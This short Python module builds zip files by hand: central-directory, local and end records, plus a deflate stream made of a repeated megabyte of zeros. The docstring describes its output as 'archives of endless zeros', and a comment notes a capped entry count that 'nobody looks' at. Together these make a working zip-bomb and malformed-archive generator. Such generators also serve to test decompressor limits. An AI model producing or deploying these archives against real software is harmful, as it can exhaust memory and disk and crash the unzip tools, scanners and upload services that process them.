"""Zips as no program writes them: record by record (APPNOTE 4.3), and archives of endless zeros."""

import struct
import zlib


def entry(name, offset, compressed, size, crc, method=8):
    """A member's record in the central directory (APPNOTE 4.3.12)."""
    head = (b"PK\1\2", 20, 20, 0, method, 0, 0, crc, compressed, size, len(name), 0, 0, 0, 0, 0, offset)
    return struct.pack("<4s6H3I5H2I", *head) + name


def local(name, compressed, size, crc, method=8):
    return struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, method, 0, 0, crc, compressed, size, len(name), 0) + name


def zip_of(body, entries):
    directory = b"".join(entries)
    count = min(len(entries), 2**16 - 1)  # more are counted elsewhere, and nobody looks
    return body + directory + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), len(body), 0)


def deflated_zeros(head, megabytes):
    """A raw deflate stream of `head` and so many zeros after it: one block of them, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(10**6)) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + block * megabytes + packer.flush()
